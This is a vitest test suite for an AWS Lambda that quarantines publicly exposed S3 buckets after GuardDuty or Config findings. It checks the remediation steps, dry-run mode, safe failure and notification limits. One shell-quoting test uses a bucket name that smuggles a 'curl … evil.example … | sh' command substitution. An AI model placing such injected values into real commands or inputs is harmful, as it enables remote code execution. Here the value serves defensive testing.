import {
  GetBucketPolicyCommand,
  PutBucketAclCommand,
  PutBucketTaggingCommand,
  PutObjectCommand,
  PutPublicAccessBlockCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { PublishCommand } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { describe, expect, it, vi } from 'vitest';
import * as s3 from '../../functions/core/aws/s3.js';
import { loadConfig } from '../../functions/core/config.js';
import { logger } from '../../functions/core/observability.js';
import { remediate } from '../../functions/core/remediation/remediate.js';
import type { EventResult } from '../../functions/core/remediation/result.js';
import { QUOTED_VALUE_MAX, REASON_MAX } from '../../functions/core/text.js';
import { handler, quarantinePublicBucket } from '../../functions/quarantine-public-bucket/handler.js';
import { s3Error } from '../support/aws-errors.js';
import { accountAbout, loadEvent } from '../support/events.js';
import {
  type FakeBucket,
  fakeS3,
  GD_BUCKET,
  logDeliveryWrite,
  OWNER,
  ownerFullControl,
  policyOf,
  publicBucket,
  publicReadStatement,
  S3_WRITE_COMMANDS,
  trainingRoleStatement,
} from '../support/fake-bucket.js';
import { handlerHarness } from '../support/handler-harness.js';

const NOW = new Date('2026-11-26T03:00:00.000Z');
const CONFIG_BUCKET = 'ml-model-artifacts-123456789012';
const FORENSICS = 'ml-guard-forensics-123456789012';

const vpceStatement = {
  Sid: 'ReadFromVpce',
  Effect: 'Allow',
  Principal: { AWS: '*' },
  Action: 's3:GetObject',
  Resource: `arn:aws:s3:::${GD_BUCKET}/*`,
  Condition: { StringEquals: { 'aws:SourceVpce': 'vpce-1a2b3c4d' } },
};
const privateBucket = (): FakeBucket => ({
  tags: [{ Key: 'team', Value: 'ml-platform' }],
  publicAccessBlock: { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true },
  policy: policyOf(trainingRoleStatement),
  owner: OWNER,
  grants: [ownerFullControl],
  objectOwnership: 'BucketOwnerEnforced',
});

const { sns, context, published } = handlerHarness({ functionName: 'quarantine-public-bucket', now: NOW, restore: [S3Client] });

/** ml-guard as deployed in the account each event is about (single-account mode): the recorded findings are about 987654321098. */
const invoke = (event: unknown) =>
  handler(event, {
    ...context,
    invokedFunctionArn: `arn:aws:lambda:eu-west-2:${accountAbout(event)}:function:quarantine-public-bucket`,
  }) as Promise<EventResult>;
const dryRun = (event: unknown) =>
  remediate(event, quarantinePublicBucket, {
    functionName: 'quarantine-public-bucket',
    ownAccount: accountAbout(event),
    config: loadConfig({ ...process.env, REMEDIATION_MODE: 'dry-run' }),
    aws: s3,
    now: () => NOW,
  });
/** The write commands sent, in the order they were sent. */
const writesTo = (mock: ReturnType<typeof fakeS3>['mock']) =>
  mock.calls().filter((call) => S3_WRITE_COMMANDS.some((command) => call.args[0] instanceof command));

describe('quarantine-public-bucket on the recorded GuardDuty finding', () => {
  it('saves the prior state, then blocks public access, strips public grants and statements, and tags the bucket', async () => {
    // Prepare
    const { mock, buckets, objects } = fakeS3({ [GD_BUCKET]: publicBucket() });
    const before = structuredClone(buckets[GD_BUCKET]);

    // Act
    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    // Assess
    expect(result.status).toBe('remediated');
    expect(result.targets[0]?.steps.map((s) => [s.kind, s.outcome])).toEqual([
      ['savePriorState', 'done'],
      ['blockPublicAccess', 'done'],
      ['removePublicAclGrants', 'done'],
      ['removePublicPolicyStatements', 'done'],
      ['tagQuarantined', 'done'],
    ]);
    const key = `quarantine/${GD_BUCKET}/2026-11-26T03:00:00.000Z/prior-state.json`;
    const saved = JSON.parse(objects.get(`${FORENSICS}/${key}`) ?? 'null');
    expect(saved).toMatchObject({
      bucket: GD_BUCKET,
      policy: before?.policy,
      tags: before?.tags,
      publicAccessBlock: null,
      acl: { owner: OWNER, grants: before?.grants },
    });
    const writes = writesTo(mock).map((c) => c.args[0].input as object);
    expect(writes).toEqual([
      expect.objectContaining({
        Bucket: FORENSICS,
        Key: key,
        ContentType: 'application/json',
        IfNoneMatch: '*',
        ChecksumAlgorithm: 'CRC32',
      }),
      {
        Bucket: GD_BUCKET,
        ExpectedBucketOwner: '987654321098',
        PublicAccessBlockConfiguration: {
          BlockPublicAcls: true,
          IgnorePublicAcls: true,
          BlockPublicPolicy: true,
          RestrictPublicBuckets: true,
        },
      },
      {
        Bucket: GD_BUCKET,
        ExpectedBucketOwner: '987654321098',
        AccessControlPolicy: { Owner: OWNER, Grants: [ownerFullControl, logDeliveryWrite] },
      },
      { Bucket: GD_BUCKET, ExpectedBucketOwner: '987654321098', Policy: policyOf(trainingRoleStatement) },
      {
        Bucket: GD_BUCKET,
        ExpectedBucketOwner: '987654321098',
        Tagging: {
          TagSet: [
            { Key: 'team', Value: 'ml-platform' },
            { Key: 'ml-guard:quarantined', Value: '2026-11-26T03:00:00.000Z' },
            { Key: 'ml-guard:trigger', Value: 'guardduty:a6bfa2f07893be4f3c3174d5af7e2f80' },
          ],
        },
      },
    ]);
  });

  it('notifies with a short subject, the readable story, the undo and the saved state, and filterable attributes', async () => {
    fakeS3({ [GD_BUCKET]: publicBucket() });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    const [message] = published();
    expect(published()).toHaveLength(1);
    expect(message?.topicArn).toBe(process.env.TOPIC_ARN);
    expect(message?.subject.length).toBeLessThanOrEqual(100);
    expect(message?.subject).toMatch(/^ml-guard REMEDIATED: test-gd-324237984731208478901374/);
    expect(message?.text).toContain(`Save the prior state to s3://${FORENSICS}/quarantine/${GD_BUCKET}/`);
    expect(message?.text).toContain('undo: aws s3api delete-public-access-block --bucket test-gd-324237984731208478901374');
    expect(message?.text).toContain('principal: RoleSandboxAccess (AssumedRole)');
    expect(message?.attributes).toEqual({
      source: 'guardduty',
      severity: 'LOW',
      status: 'remediated',
      function: 'quarantine-public-bucket',
    });
    expect(message?.json).toMatchObject({
      status: 'remediated',
      findingId: 'a6bfa2f07893be4f3c3174d5af7e2f80',
      eventId: '29cc9880-571c-ca45-f9d4-6f8592ecc0fe',
    });
    expect(result.notification).toEqual({ subject: message?.subject, published: true, messageId: 'msg-1' });
  });

  it('leaves the same end state, and changes nothing more, when the same event arrives twice', async () => {
    const { mock, buckets } = fakeS3({ [GD_BUCKET]: publicBucket() });
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    await invoke(event);
    const afterFirst = structuredClone(buckets[GD_BUCKET]);
    const writesAfterFirst = writesTo(mock).length;

    vi.setSystemTime(new Date(NOW.getTime() + 60_000));
    const second = await invoke(event);

    expect(second.status).toBe('already-compliant');
    expect(second.reason).toBe('the bucket is already private: nothing to change');
    expect(writesTo(mock)).toHaveLength(writesAfterFirst);
    expect(buckets[GD_BUCKET]).toEqual(afterFirst);
    expect(published()).toHaveLength(2);
  });
});

describe('quarantine-public-bucket safety rules', () => {
  it('changes nothing on a bucket that is already private, and says so', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: privateBucket() });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('already-compliant');
    expect(result.targets[0]?.notes).toContain(
      'ACLs are disabled (object ownership BucketOwnerEnforced): the ACL grants nothing and is left alone',
    );
    expect(writesTo(mock)).toEqual([]);
    expect(published()[0]?.subject).toMatch(/^ml-guard ALREADY-COMPLIANT/);
  });

  it('never touches a bucket carrying the exemption tag', async () => {
    const bucket = { ...publicBucket(), tags: [{ Key: 'ml-guard:exempt', Value: 'public website, ticket SEC-42' }] };
    const { mock } = fakeS3({ [GD_BUCKET]: bucket });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('skipped');
    expect(result.reason).toBe('the bucket carries the exemption tag ml-guard:exempt=public website, ticket SEC-42');
    expect(writesTo(mock)).toEqual([]);
    expect(published()[0]?.attributes.status).toBe('skipped');
  });

  it('skips, and notifies, when the bucket no longer exists', async () => {
    const { mock } = fakeS3({});

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('skipped');
    expect(result.reason).toBe('the bucket no longer exists');
    expect(writesTo(mock)).toEqual([]);
    expect(published()).toHaveLength(1);
  });

  it('changes nothing in enforce mode when part of the state cannot be read', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
    mock.on(GetBucketPolicyCommand).rejects(s3Error('AccessDenied', 403, 'Access Denied'));

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('failed');
    expect(result.reason).toBe('could not read bucket policy: nothing changed, to be safe');
    expect(result.targets[0]?.notes).toContain('could not read the bucket policy: AccessDenied: Access Denied');
    expect(result.targets[0]?.steps.every((s) => s.outcome === 'not-run')).toBe(true);
    expect(writesTo(mock)).toEqual([]);
    expect(published()[0]?.attributes.severity).toBe('HIGH');
  });

  it('changes nothing when a read is throttled, notifies, and fails the invocation so that the retry reads again', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
    mock.on(GetBucketPolicyCommand).rejects(s3Error('SlowDown', 503, 'Please reduce your request rate.'));

    await expect(invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'))).rejects.toThrow(/RetryLaterError/);

    expect(writesTo(mock)).toEqual([]);
    expect(published()[0]?.json).toMatchObject({
      status: 'failed',
      reason: 'could not read bucket policy: nothing changed, to be safe',
      journal: { retry: true },
    });
  });

  it('sends no write call in dry-run and reports every step it would take', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });

    const result = await dryRun(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('planned');
    expect(result.mode).toBe('dry-run');
    expect(result.targets[0]?.steps.map((s) => s.outcome)).toEqual(['would-do', 'would-do', 'would-do', 'would-do', 'would-do']);
    expect(result.targets[0]?.steps[3]?.summary).toBe('Remove 1 public statement(s) from the bucket policy (PublicRead); keep the other 1');
    expect(writesTo(mock)).toEqual([]);
    expect(published()[0]?.text).toContain('Dry-run: nothing was changed.');
  });

  it('plans from the event alone in dry-run when no state can be read, and says what it could not read', async () => {
    const mock = mockClient(S3Client);
    mock
      .onAnyCommand()
      .rejects(Object.assign(new Error('Could not load credentials from any providers'), { name: 'CredentialsProviderError' }));

    const result = await dryRun(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('planned');
    expect(result.targets[0]?.notes?.[0]).toBe(
      'could not read the tags, public access block, bucket policy, ACL, ownership controls: CredentialsProviderError: Could not load credentials from any providers',
    );
    expect(result.targets[0]?.steps.map((s) => s.kind)).toEqual([
      'savePriorState',
      'blockPublicAccess',
      'removePublicAclGrants',
      'removePublicPolicyStatements',
      'tagQuarantined',
    ]);
    expect(writesTo(mock)).toEqual([]);
  });

  it('shell-quotes a bucket name from the event in every undo command', async () => {
    // Prepare
    const hostile = "ml-data$(curl -s https://evil.example/x|sh)'";
    fakeS3({ [hostile]: publicBucket() });
    const event = loadEvent('config/s3-bucket-public-read-prohibited-noncompliant.json');
    event.detail.resourceId = hostile;

    // Act
    const result = await dryRun(event);

    // Assess
    const quoted = `'ml-data$(curl -s https://evil.example/x|sh)'\\'''`;
    expect(result.targets[0]?.steps.flatMap((s) => (s.undo?.includes('aws s3api') ? [s.undo] : []))).toEqual([
      `aws s3api delete-public-access-block --bucket ${quoted}`,
      `restore the "acl" saved with the prior state: aws s3api put-bucket-acl --bucket ${quoted} --access-control-policy file://acl.json`,
      `restore the "policy" saved with the prior state: aws s3api put-bucket-policy --bucket ${quoted} --policy file://policy.json`,
    ]);
  });
});

describe('quarantine-public-bucket policies and ACLs', () => {
  it('deletes the policy when every statement is public', async () => {
    const { mock, buckets } = fakeS3({ [GD_BUCKET]: { ...publicBucket(), policy: policyOf(publicReadStatement) } });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.targets[0]?.steps.find((s) => s.kind === 'removePublicPolicyStatements')).toMatchObject({
      outcome: 'done',
      detail: 'policy deleted',
    });
    expect(mock.commandCalls(PutObjectCommand)).toHaveLength(1);
    expect(buckets[GD_BUCKET]?.policy).toBeUndefined();
  });

  it('keeps a public statement restricted by aws:SourceVpce', async () => {
    const { buckets } = fakeS3({ [GD_BUCKET]: { ...publicBucket(), policy: policyOf(vpceStatement, publicReadStatement) } });

    await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(JSON.parse(buckets[GD_BUCKET]?.policy ?? '{}').Statement).toEqual([vpceStatement]);
  });

  it('leaves ACLs alone when they are disabled by BucketOwnerEnforced', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: { ...publicBucket(), grants: [ownerFullControl], objectOwnership: 'BucketOwnerEnforced' } });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('remediated');
    expect(mock.commandCalls(PutBucketAclCommand)).toHaveLength(0);
  });

  it('reports a throttled step, still runs the others, notifies, then fails the invocation so that Lambda retries', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
    mock.on(PutBucketAclCommand).rejects(s3Error('SlowDown', 503, 'Please reduce your request rate.'));

    await expect(invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'))).rejects.toThrow(
      /RetryLaterError: work left for a retry/,
    );

    const result = published()[0]?.json;
    expect(result.status).toBe('partial');
    expect(result.targets[0]?.steps.map((s: { outcome: string }) => s.outcome)).toEqual(['done', 'done', 'failed', 'done', 'done']);
    expect(result.targets[0]?.steps[2]?.detail).toBe('SlowDown: Please reduce your request rate.');
    expect(result.targets[0]?.steps[2]?.retryable).toBe(true);
    expect(published()[0]?.text).toContain('[FAILED] Remove 2 ACL grant(s)');
  });

  it('changes nothing when the prior state cannot be saved', async () => {
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
    mock.on(PutObjectCommand).rejects(s3Error('AccessDenied', 403, 'Access Denied'));

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'));

    expect(result.status).toBe('failed');
    expect(result.targets[0]?.steps.map((s) => s.outcome)).toEqual(['failed', 'not-run', 'not-run', 'not-run', 'not-run']);
    expect(mock.commandCalls(PutPublicAccessBlockCommand)).toHaveLength(0);
  });
});

describe('quarantine-public-bucket triggers', () => {
  it('quarantines every bucket a finding names', async () => {
    const { buckets } = fakeS3({ [GD_BUCKET]: publicBucket(), 'ml-training-data-987654321098': publicBucket() });

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketanonymousaccessgranted-two-buckets.json'));

    expect(result.targets.map((t) => [t.target.id, t.status])).toEqual([
      [GD_BUCKET, 'remediated'],
      ['ml-training-data-987654321098', 'remediated'],
    ]);
    expect(Object.values(buckets).every((b) => b.publicAccessBlock?.RestrictPublicBuckets === true)).toBe(true);
    expect(published()[0]?.subject).toContain('(+1 more)');
  });

  it.each([
    'config/s3-bucket-public-read-prohibited-noncompliant.json',
    'config/s3-bucket-public-write-prohibited-noncompliant.json',
    'config/s3-bucket-level-public-access-prohibited-noncompliant.json',
    'config/securityhub-s3-bucket-public-read-prohibited-noncompliant.json',
    'config/s3-bucket-public-read-prohibited-conformance-pack-noncompliant.json',
  ])('quarantines the bucket named by %s', async (path) => {
    const { buckets } = fakeS3({ [CONFIG_BUCKET]: publicBucket() });

    const result = await invoke(loadEvent(path));

    expect(result.status).toBe('remediated');
    const rule = loadEvent(path).detail.configRuleName;
    expect(buckets[CONFIG_BUCKET]?.tags).toContainEqual({ Key: 'ml-guard:trigger', Value: `config:${rule}` });
  });

  it('notifies that a GuardDuty sample finding arrived and reads or changes nothing', async () => {
    const mock = mockClient(S3Client);

    const result = await invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled-sample.json'));

    expect(result.status).toBe('notified');
    expect(result.reason).toMatch(/^GuardDuty sample finding/);
    expect(result.targets).toEqual([
      expect.objectContaining({ target: expect.objectContaining({ id: 'bucketName' }), status: 'notified' }),
    ]);
    expect(mock.calls()).toHaveLength(0);
    expect(published()).toHaveLength(1);
  });

  it.each([
    ['config/s3-bucket-public-read-prohibited-compliant.json', 'bucket ml-model-artifacts-123456789012 is COMPLIANT, not NON_COMPLIANT'],
    [
      'guardduty/unauthorizedaccess-iamuser-toripcaller-sample.json',
      'GuardDuty finding type UnauthorizedAccess:IAMUser/TorIPCaller is not one that quarantine-public-bucket handles',
    ],
    ['cloudwatch/alarm-state-change-single-metric-ec2-cpu.json', 'CloudWatch alarms are not handled by quarantine-public-bucket'],
    ['invalid/guardduty-finding-without-resource.json', 'GuardDuty finding rejected: resource: expected object'],
    [
      'invalid/config-configuration-item-change.json',
      'events from source "aws.config" with detail-type "Config Configuration Item Change" are not handled',
    ],
    ['invalid/guardduty-sns-wrapped.json', expect.stringMatching(/^EventBridge envelope rejected: /)],
  ])('ignores %s with a reason, calling nothing', async (path, reason) => {
    const mock = mockClient(S3Client);

    const result = await invoke(loadEvent(path));

    expect(result).toMatchObject({ status: 'ignored', reason });
    expect(mock.calls()).toHaveLength(0);
    expect(sns.calls()).toHaveLength(0);
  });

  it('fails the invocation with a clear message when the notification cannot be sent, so Lambda retries it', async () => {
    fakeS3({ [GD_BUCKET]: privateBucket() });
    sns.on(PublishCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'ThrottlingException' }));

    await expect(invoke(loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json'))).rejects.toThrow(
      'quarantine-public-bucket failed: NotificationError: could not publish to arn:aws:sns:eu-west-2:123456789012:ml-guard-notifications: ThrottlingException: Rate exceeded',
    );
  });
});

describe('quarantine-public-bucket on doubtful input', () => {
  it.each([
    ['null', null],
    ['empty', []],
  ])("notifies, and reads or changes nothing, when the finding's bucket list is %s", async (_label, details) => {
    // Prepare
    const mock = mockClient(S3Client);
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    event.detail.resource.s3BucketDetails = details;

    // Act
    const result = await invoke(event);

    // Assess
    expect(result).toMatchObject({
      status: 'notified',
      reason: 'the finding names no bucket: nothing was read or changed, a person should look',
      targets: [],
    });
    expect(mock.calls()).toHaveLength(0);
    expect(published()).toHaveLength(1);
    expect(published()[0]?.text).toContain('the finding names no bucket');
  });

  it.each([
    ['"TRUE"', 'TRUE'],
    ['1', 1],
  ])('treats a finding whose sample flag is %s as a sample: it reads or changes nothing', async (_label, flag) => {
    // Prepare
    const mock = mockClient(S3Client);
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    event.detail.service.additionalInfo = { ...event.detail.service.additionalInfo, sample: flag };

    // Act
    const result = await invoke(event);

    // Assess
    expect(result).toMatchObject({ status: 'notified', reason: expect.stringMatching(/^GuardDuty sample finding/) });
    expect(mock.calls()).toHaveLength(0);
  });

  it("writes a trigger tag S3 accepts when the finding id holds characters outside S3's tag charset", async () => {
    // Prepare
    const { mock } = fakeS3({ [GD_BUCKET]: publicBucket() });
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    event.detail.id = `a6bf#a2f0(7893)!be4f*3c31,74d5;af7e"2f80<>?${'z'.repeat(300)}`;

    // Act
    const result = await invoke(event);

    // Assess
    expect(result.status).toBe('remediated');
    const tagging = mock.commandCalls(PutBucketTaggingCommand)[0]?.args[0].input.Tagging;
    const trigger = tagging?.TagSet?.find((t) => t.Key === 'ml-guard:trigger')?.Value ?? '';
    expect(trigger).toMatch(/^guardduty:a6bf_a2f0_7893__be4f_3c31_74d5_af7e_2f80___z+$/);
    expect([...trigger].length).toBe(256);
    for (const tag of tagging?.TagSet ?? []) expect(tag.Value).toMatch(/^[\p{L}\p{Z}\p{N}_.:/=+\-@]{0,256}$/u);
  });
});

describe("quarantine-public-bucket keeps its notification inside SNS's limit", () => {
  it('publishes a bounded, valid notification for a finding with a 600,000-character id and 30 huge bucket names', async () => {
    // Prepare
    const mock = mockClient(S3Client);
    const info = vi.spyOn(logger, 'info');
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    event.detail.id = 'f'.repeat(600_000);
    const [first] = event.detail.resource.s3BucketDetails;
    event.detail.resource.s3BucketDetails = Array.from({ length: 30 }, (_, i) => ({
      ...first,
      name: `${i}-${'b'.repeat(30_000)}`,
      arn: `arn:aws:s3:::${i}-${'b'.repeat(30_000)}`,
    }));

    // Act
    const result = await invoke(event);

    // Assess
    expect(result.status).toBe('limit-exceeded');
    expect(mock.calls()).toHaveLength(0);
    const input = sns.commandCalls(PublishCommand)[0]?.args[0].input;
    const attributes = Object.entries(input?.MessageAttributes ?? {}).reduce(
      (n, [k, v]) => n + Buffer.byteLength(k) + Buffer.byteLength(v.DataType ?? '') + Buffer.byteLength(v.StringValue ?? ''),
      0,
    );
    expect(Buffer.byteLength(input?.Message ?? '') + Buffer.byteLength(input?.Subject ?? '') + attributes).toBeLessThanOrEqual(262_144);
    const [message] = published();
    expect(message?.json).toMatchObject({ status: 'limit-exceeded' });
    expect(message?.chat?.metadata.additionalContext.findingId?.length).toBeLessThanOrEqual(200);
    expect(message?.text).toContain('[truncated, 600000 chars]');
    // The log line of the outcome fits one CloudWatch Logs event (256 KB), and says where the whole result is.
    const logged = info.mock.calls.find(([text]) => text === 'event handled')?.[1] as { result: Record<string, unknown> };
    expect(Buffer.byteLength(JSON.stringify(logged))).toBeLessThan(256 * 1024);
    expect(logged.result).toMatchObject({
      status: 'limit-exceeded',
      targetCount: 30,
      truncated: expect.stringContaining('the journal hold it whole'),
    });
  });

  it('ignores an event of a foreign source with a 1 MB detail-type, returning and logging a bounded reason', async () => {
    // Prepare
    const warn = vi.spyOn(logger, 'warn');
    const event = loadEvent('guardduty/policy-s3-bucketblockpublicaccessdisabled.json');
    event['detail-type'] = 'd'.repeat(1_000_000);
    event.id = 'e'.repeat(1_000_000);

    // Act
    const result = await invoke(event);

    // Assess
    expect(result.status).toBe('ignored');
    expect(result.reason.length).toBeLessThanOrEqual(REASON_MAX);
    expect(result.eventId?.length).toBeLessThanOrEqual(QUOTED_VALUE_MAX);
    const [, fields] = warn.mock.calls.find(([text]) => text === 'event ignored') ?? [];
    expect(Buffer.byteLength(JSON.stringify(fields))).toBeLessThan(REASON_MAX * 4 + QUOTED_VALUE_MAX * 4 + 100);
  });
});
